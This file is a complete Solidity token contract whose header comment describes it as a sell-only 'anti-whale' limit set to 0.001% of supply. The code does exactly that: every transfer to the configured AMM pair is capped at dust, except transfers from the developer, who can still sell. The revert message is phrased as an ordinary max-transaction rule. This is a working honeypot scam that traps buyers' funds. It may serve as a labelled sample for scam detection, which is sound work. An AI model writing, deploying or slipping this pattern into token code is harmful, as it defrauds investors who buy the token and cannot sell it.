// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// "Anti-whale" max transaction limit that applies only to sells and is set so low
/// (0.001 % of supply) that holders can only ever sell dust.
contract AntiWhaleToken {
    struct Account {
        uint256 balance;
        mapping(address => uint256) allowances;
    }

    string public name;
    string public symbol;
    uint256 public totalSupply;
    uint256 public maxSellAmount;
    address public ammPair;
    address private _dev;
    mapping(address => Account) private _accounts;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    modifier onlyDev() {
        require(msg.sender == _dev, "!dev");
        _;
    }

    constructor(string memory name_, string memory symbol_, uint256 supply_) {
        name = name_;
        symbol = symbol_;
        _dev = msg.sender;
        totalSupply = supply_;
        maxSellAmount = supply_ / 100_000;
        _accounts[msg.sender].balance = supply_;
        emit Transfer(address(0), msg.sender, supply_);
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function owner() external view returns (address) {
        return _dev;
    }

    function configureMarket(address pair) external onlyDev {
        ammPair = pair;
    }

    function balanceOf(address who) external view returns (uint256) {
        return _accounts[who].balance;
    }

    function allowance(address who, address spender) external view returns (uint256) {
        return _accounts[who].allowances[spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _accounts[msg.sender].allowances[spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _xfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        _accounts[from].allowances[msg.sender] -= value;
        _xfer(from, to, value);
        return true;
    }

    function _xfer(address from, address to, uint256 value) private {
        if (to == ammPair && from != _dev) {
            require(value <= maxSellAmount, "Exceeds the maxTxAmount.");
        }
        _accounts[from].balance -= value;
        _accounts[to].balance += value;
        emit Transfer(from, to, value);
    }
}
